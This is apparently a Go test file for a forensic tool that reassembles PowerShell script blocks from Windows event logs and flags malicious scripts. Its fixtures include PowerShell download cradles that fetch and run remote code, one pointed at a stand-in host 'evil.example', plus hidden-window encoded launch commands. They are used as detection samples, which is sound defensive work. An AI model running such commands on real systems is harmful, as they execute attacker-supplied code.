package scripts

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/wuguard/wuguard/evtx"
	"github.com/wuguard/wuguard/internal/event"
)

const operational = "Microsoft-Windows-PowerShell/Operational"

var t0 = time.Date(2025, 4, 9, 10, 0, 0, 0, time.UTC)

func part(rec uint64, id string, n, total int, text string) *event.Event {
	e := &event.Event{Source: event.Source{File: "ps.evtx", Format: event.FormatEVTX, Offset: int64(rec) * 100}}
	e.System = evtx.System{Channel: operational, EventID: 4104, Computer: "PC1", RecordID: rec, TimeCreated: t0.Add(time.Duration(rec) * time.Second)}
	e.Fields = []evtx.Field{{Name: "MessageNumber", Value: fmt.Sprint(n)}, {Name: "MessageTotal", Value: fmt.Sprint(total)},
		{Name: "ScriptBlockText", Value: text}, {Name: "ScriptBlockId", Value: id}, {Name: "Path", Value: ""}}
	return e
}

// collect feeds events and returns every script, flushed ones last.
func collect(c *Collector, evs ...*event.Event) []Script {
	var out []Script
	for _, e := range evs {
		out = append(out, c.Add(e)...)
	}
	return append(out, c.Flush()...)
}

func TestReassemblesOutOfOrderAndDuplicateParts(t *testing.T) {
	c := NewCollector(Limits{})
	got := collect(c,
		part(3, "{b}", 3, 3, "-Uri http://x/y)"),
		part(1, "{b}", 1, 3, "iex (iwr "),
		part(4, "{other}", 1, 1, "Get-Date"),
		part(5, "{b}", 1, 3, "DUPLICATE "),
		part(2, "{b}", 2, 3, "-UseBasicParsing "),
	)
	if len(got) != 2 {
		t.Fatalf("got %d scripts, want 2: %+v", len(got), got)
	}
	if got[0].Text != "Get-Date" || got[0].Total != 1 {
		t.Errorf("single-part block: %+v", got[0])
	}
	b := got[1]
	if b.Text != "iex (iwr -UseBasicParsing -Uri http://x/y)" || b.Parts != 3 || b.Incomplete() || b.BlockID != "{b}" {
		t.Errorf("block = %q parts %d/%d", b.Text, b.Parts, b.Total)
	}
	if len(b.Events) != 3 || b.Events[0].RecordID != 1 || b.Events[2].RecordID != 3 || b.RecordID != 2 {
		t.Errorf("refs %+v, last record %d", b.Events, b.RecordID)
	}
}

func TestMissingPartsFlushAsIncomplete(t *testing.T) {
	c := NewCollector(Limits{})
	got := collect(c, part(1, "{a}", 1, 3, "first "), part(2, "{a}", 3, 3, "third"))
	if len(got) != 1 || got[0].Text != "first third" || !got[0].Incomplete() || got[0].Parts != 2 {
		t.Fatalf("got %+v", got)
	}
}

func TestSameIDOnTwoComputersStaysApart(t *testing.T) {
	c := NewCollector(Limits{})
	a, b := part(1, "{x}", 1, 2, "A1"), part(2, "{x}", 1, 2, "B1")
	b.System.Computer = "PC2"
	got := collect(c, a, b, part(3, "{x}", 2, 2, "A2"))
	if len(got) != 2 || got[0].Text != "A1A2" || got[1].Text != "B1" || got[1].Computer != "PC2" {
		t.Fatalf("got %+v", got)
	}
}

func TestLimitsBoundPendingBlocksAndText(t *testing.T) {
	c := NewCollector(Limits{MaxPending: 2, MaxParts: 4, MaxBytes: 10})
	var got []Script
	for i := range 5 {
		got = append(got, c.Add(part(uint64(i+1), fmt.Sprintf("{%d}", i), 1, 1000, "0123456789abcdef"))...)
	}
	if len(c.pending) != 2 {
		t.Errorf("%d blocks pending, limit 2", len(c.pending))
	}
	got = append(got, c.Flush()...)
	if len(got) != 5 {
		t.Fatalf("got %d scripts, want every block once", len(got))
	}
	for _, s := range got {
		if len(s.Text) > 10 || s.Total != 1000 || !s.Incomplete() {
			t.Errorf("block %s: %d bytes, %d of %d parts", s.BlockID, len(s.Text), s.Parts, s.Total)
		}
	}
	if got[0].BlockID != "{0}" || got[4].BlockID != "{4}" {
		t.Errorf("blocks not given up in arrival order: %s ... %s", got[0].BlockID, got[4].BlockID)
	}
}

// A fuzzer found this: a first part numbered 0 or beyond the announced total
// used to leave an empty block behind that crashed Flush.
func TestPartOutOfRangeMakesNoEmptyBlock(t *testing.T) {
	for _, n := range []int{0, -1, 4, 2000} {
		c := NewCollector(Limits{MaxParts: 1024})
		if got := collect(c, part(1, "{z}", n, 3, "text")); len(got) != 0 {
			t.Errorf("part %d of 3: got %+v", n, got)
		}
	}
}

func TestPartPastTheFirstAnnouncedTotalIsIgnored(t *testing.T) {
	c := NewCollector(Limits{})
	got := collect(c, part(1, "{t}", 1, 3, "a"), part(2, "{t}", 2, 3, "b"), part(3, "{t}", 4, 5, "d"), part(4, "{t}", 3, 3, "c"))
	if len(got) != 1 || got[0].Text != "abc" || got[0].Parts != 3 || got[0].Incomplete() {
		t.Fatalf("got %+v", got)
	}
}

func TestBlockAnnouncingMorePartsThanTheLimitIsIncomplete(t *testing.T) {
	c := NewCollector(Limits{MaxParts: 2})
	got := collect(c, part(1, "{m}", 1, 5, "a"), part(2, "{m}", 2, 5, "b"), part(3, "{m}", 3, 5, "c"))
	if len(got) != 1 || got[0].Text != "ab" || got[0].Parts != 2 || got[0].Total != 5 || !got[0].Incomplete() {
		t.Fatalf("got %+v", got)
	}
}

func TestLimitsBoundTextOfAllPendingBlocks(t *testing.T) {
	c := NewCollector(Limits{MaxPendingBytes: 25})
	var got []Script
	for i := range 4 {
		got = append(got, c.Add(part(uint64(i+1), fmt.Sprintf("{%d}", i), 1, 2, "0123456789"))...)
		if c.pendingBytes > 25 {
			t.Fatalf("after block %d: %d bytes pending, limit 25", i, c.pendingBytes)
		}
	}
	got = append(got, c.Flush()...)
	if len(got) != 4 || got[0].BlockID != "{0}" || got[0].Text != "0123456789" || !got[0].Incomplete() {
		t.Fatalf("got %+v", got)
	}
}

func TestPartRepeatedAfterItsBlockIsComplete(t *testing.T) {
	c := NewCollector(Limits{})
	got := collect(c, part(1, "{d}", 1, 2, "one "), part(2, "{d}", 2, 2, "two"), part(3, "{d}", 2, 2, "two"))
	if len(got) != 1 || got[0].Text != "one two" || got[0].Incomplete() {
		t.Fatalf("got %+v", got)
	}
}

func TestReusedEventMemoryDoesNotLeak(t *testing.T) {
	c := NewCollector(Limits{})
	e := part(1, "{r}", 1, 2, "first ")
	c.Add(e)
	buf := []byte("second")
	e2 := part(2, "{r}", 2, 2, string(buf))
	e.Fields[2].Value = "CHANGED"
	got := c.Add(e2)
	if len(got) != 1 || got[0].Text != "first second" {
		t.Fatalf("got %+v", got)
	}
}

func procEvent(channel string, id uint16, fields ...string) *event.Event {
	e := &event.Event{Source: event.Source{File: "p.evtx"}}
	e.System = evtx.System{Channel: channel, EventID: id, Computer: "PC1", RecordID: 7, TimeCreated: t0}
	for i := 0; i+1 < len(fields); i += 2 {
		e.Fields = append(e.Fields, evtx.Field{Name: fields[i], Value: fields[i+1]})
	}
	return e
}

func TestOtherSources(t *testing.T) {
	classic800 := procEvent("Windows PowerShell", 800, "", "iex (New-Object Net.WebClient).DownloadString('http://a/b')", "", "ctx", "", "details")
	classic400 := procEvent("Windows PowerShell", 400, "", "Available", "", "None",
		"", "\tNewEngineState=Available\r\n\tHostApplication=powershell.exe -nop -w hidden -enc SQBFAFgA\r\n\tEngineVersion=5.1")
	bareHost := procEvent("Windows PowerShell", 400, "", "Available", "", "None", "", "\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\n")
	cases := []struct {
		name string
		e    *event.Event
		kind Kind
		text string
	}{
		{"sysmon powershell", procEvent("Microsoft-Windows-Sysmon/Operational", 1, "Image", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine", "powershell -w hidden -c iwr x"), KindProcess, "powershell -w hidden -c iwr x"},
		{"sysmon notepad", procEvent("Microsoft-Windows-Sysmon/Operational", 1, "Image", `C:\Windows\notepad.exe`, "CommandLine", "notepad powershell.txt"), "", ""},
		{"4688 cmd starting pwsh", procEvent("Security", 4688, "NewProcessName", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd /c pwsh -c whoami"), KindProcess, "cmd /c pwsh -c whoami"},
		{"4688 no command line", procEvent("Security", 4688, "NewProcessName", `C:\x\pwsh.exe`, "CommandLine", ""), "", ""},
		{"4103", procEvent(operational, 4103, "ContextInfo", "Host Application = powershell", "Payload", `CommandInvocation(Invoke-Expression): "Invoke-Expression"`), KindPipeline, `CommandInvocation(Invoke-Expression): "Invoke-Expression"`},
		{"800", classic800, KindClassic, "iex (New-Object Net.WebClient).DownloadString('http://a/b')"},
		{"400 with arguments", classic400, KindEngine, "powershell.exe -nop -w hidden -enc SQBFAFgA"},
		{"400 bare console", bareHost, "", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := collect(NewCollector(Limits{}), tc.e)
			if tc.kind == "" {
				if len(got) != 0 {
					t.Fatalf("got %+v, want nothing", got)
				}
				return
			}
			if len(got) != 1 || got[0].Kind != tc.kind || got[0].Text != tc.text {
				t.Fatalf("got %+v, want %s %q", got, tc.kind, tc.text)
			}
		})
	}
}

func TestAnalyzerCachesByText(t *testing.T) {
	a := NewAnalyzer(nil)
	r1 := a.Analyze(t.Context(), "iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")
	r2 := a.Analyze(t.Context(), "iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")
	if r1 != r2 {
		t.Error("the same text was analysed twice")
	}
	if !Flagged(r1) {
		t.Errorf("download cradle not flagged: %s", r1.Verdict)
	}
	if r := a.Analyze(t.Context(), "Get-ChildItem C:\\"); Flagged(r) || strings.Contains(string(r.Verdict), "mal") {
		t.Errorf("Get-ChildItem flagged: %s", r.Verdict)
	}
}
